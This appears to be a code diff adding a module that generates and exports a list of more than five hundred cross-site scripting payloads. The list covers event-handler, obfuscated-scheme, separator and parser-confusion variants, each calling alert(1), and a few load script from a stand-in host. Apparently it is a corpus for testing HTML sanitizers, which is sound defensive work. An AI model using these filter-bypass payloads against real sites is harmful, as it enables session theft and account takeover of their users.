@@ -1,0 +1,150 @@
+// Texts that run a script where a page shows them as HTML, by the ways that are publicly known: a handler of
+// each element and event, a scheme of each attribute with a link, elements that load or embed, and what
+// parsers read otherwise than filters. Each calls `alert(1)`.
+
+const CALLS = ['alert(1)', '&#97;lert(1)', 'window[`al`+`ert`](1)'];
+
+const ELEMENTS = [
+  'img src=x',
+  'svg',
+  'body',
+  'video src=x',
+  'audio src=x',
+  'input autofocus',
+  'select autofocus',
+  'details open',
+  'marquee',
+  'iframe',
+  'object data=x',
+  'embed src=x',
+  'math',
+  'a href=x',
+  'p',
+  'table',
+  'td',
+  'xss contenteditable',
+  'form',
+  'button',
+  'isindex type=image src=x',
+];
+const EVENTS = [
+  'onerror',
+  'onload',
+  'onfocus',
+  'onclick',
+  'onmouseover',
+  'ontoggle',
+  'onstart',
+  'onanimationstart',
+  'onpointerenter',
+  'onwheel',
+  'ONERROR',
+];
+const handlers = ELEMENTS.flatMap((element, at) =>
+  EVENTS.map((event, n) => `<${element} ${event}=${CALLS[(at + n) % CALLS.length]}>`),
+);
+
+const BREAKS = [' ', '/', '\t', '\n', '\f', '\r', '/\u0000', ' / ', '%0a', '//'];
+const separated = BREAKS.flatMap((gap) => [
+  `<img${gap}src=x${gap}onerror=alert(1)>`,
+  `<svg${gap}onload=alert(1)>`,
+  `<a${gap}href="javascript:alert(1)">x</a>`,
+]);
+
+const SCHEMES = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  'java\nscript:',
+  ' javascript:',
+  '\u0001javascript:',
+  '&#106;avascript:',
+  '&#x6A;avascript:',
+  '&#0000106avascript:',
+  'javascript&colon;',
+  'jav&Tab;ascript:',
+  'jav&NewLine;ascript:',
+  'vbscript:',
+  'data:text/html,<script>alert(1)</script>//',
+  'livescript:',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==//',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'feed:javascript:',
+  'view-source:javascript:',
+  'blob:https://e.example/',
+  'filesystem:https://e.example/',
+];
+const LINKS = [
+  'a href',
+  'img src',
+  'iframe src',
+  'form action',
+  'object data',
+  'embed src',
+  'base href',
+  'link href',
+  'area href',
+  'video poster',
+  'svg xlink:href',
+  'math href',
+  'input formaction',
+];
+const linked = SCHEMES.flatMap((scheme) => LINKS.map((link) => `<${link}="${scheme}alert(1)">x`));
+
+const OTHERS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//e.example/x.js></SCRIPT>',
+  '<script\u0000>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>alert(1)//<</script>',
+  '<script>alert(1)',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '--><script>alert(1)</script>',
+  ']]><script>alert(1)</script>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
+  '<style>@import "javascript:alert(1)";</style>',
+  '<style><img src="</style><img src=x onerror=alert(1)//">',
+  '<p style="background:url(javascript:alert(1))">x',
+  '<p style="behavior:url(#x)">x',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>',
+  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<select><template><img src=x onerror=alert(1)></template></select>',
+  '<template><script>alert(1)</script></template>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<a href="https://e.example" onclick="alert(1)" target=_self>x</a>',
+  '<a href=`javascript:alert(1)`>x</a>',
+  '<img src="x` onerror=`alert(1)">',
+  '<img """><script>alert(1)</script>">',
+  '<img src="x"onerror="alert(1)">',
+  '<img alt="><script>alert(1)</script>" src=/a.png>',
+  '<img alt="&lt;img src=x onerror=alert(1)&gt;" src=/a.png>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
+  '＜script＞alert(1)＜/script＞',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<b><script>alert(1)</script></b>',
+  '<a href="//e.example/%0ajavascript:alert(1)">x</a>',
+  '<td background="javascript:alert(1)">x</td>',
+  '<div><custom-element is="x" onclick=alert(1)></div>',
+  '<object type="text/x-scriptlet" data="//e.example"></object>',
+  '<applet code="javascript:alert(1)"></applet>',
+];
+
+/** More than five hundred. */
+export const HOSTILE_HTML: readonly string[] = [
+  ...new Set([...handlers, ...separated, ...linked, ...OTHERS]),
+];
